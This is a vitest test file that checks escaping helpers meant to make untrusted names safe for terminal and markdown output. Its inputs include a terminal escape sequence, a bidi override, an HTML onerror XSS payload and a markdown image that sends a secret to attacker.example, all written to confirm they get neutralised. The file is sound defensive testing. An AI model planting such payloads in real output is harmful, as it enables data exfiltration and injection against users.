import { describe, expect, it } from 'vitest';
import { markdownCode, markdownText, terminalText } from '../../src/formatters/escape.js';

describe('terminalText', () => {
  it.each([
    ['plain text stays', 'site api-prod', 'site api-prod'],
    ['an escape sequence is shown, not run', 'a\u001b]0;pwned\u0007b', 'a\\x1b]0;pwned\\x07b'],
    ['carriage return and backspace', 'ok\rFAKE\b', 'ok\\x0dFAKE\\x08'],
    ['C1 control (CSI)', 'x\u009b31m', 'x\\x9b31m'],
    ['bidirectional override', 'abc\u202edcba', 'abc\\u{202e}dcba'],
    ['tab is kept', 'a\tb', 'a\tb'],
    ['non-ASCII letters are kept', 'café ☕', 'café ☕'],
  ])('%s', (_name, input, expected) => {
    expect(terminalText(input)).toBe(expected);
  });
});

describe('markdownText', () => {
  it('an image in a name is text, not an image (no request to the host)', () => {
    const out = markdownText("Microsoft.Web/sites '![x](https://attacker.example/?q=secret)'");
    expect(out).not.toMatch(/(^|[^\\])!\[/);
    expect(out).not.toMatch(/(^|[^\\])\]\(/);
    expect(out).not.toContain('https://');
  });
  it.each([
    ['HTML', '<img src=x onerror=alert(1)>', /(^|[^\\])</],
    ['table break', 'a | b', /(^|[^\\])\|/],
    ['line break', 'a\n# heading', /\n/],
    ['emphasis', '**bold** _it_', /(^|[^\\])\*/],
    ['autolink', 'see www.example.com or https://x.example', /https:\/\//],
    ['mention', '@octocat', /(^|[^\\])@/],
  ])('%s is escaped', (_name, input, unwanted) => {
    expect(markdownText(input)).not.toMatch(unwanted);
  });
});

describe('markdownCode', () => {
  it.each([
    ['infra/main.bicep:3', '`infra/main.bicep:3`'],
    ['a`b', '``a`b``'],
    ['`x`', '`` `x` ``'],
    ['a|b', '`a\\|b`'],
  ])('%j', (input, expected) => {
    expect(markdownCode(input)).toBe(expected);
  });
});
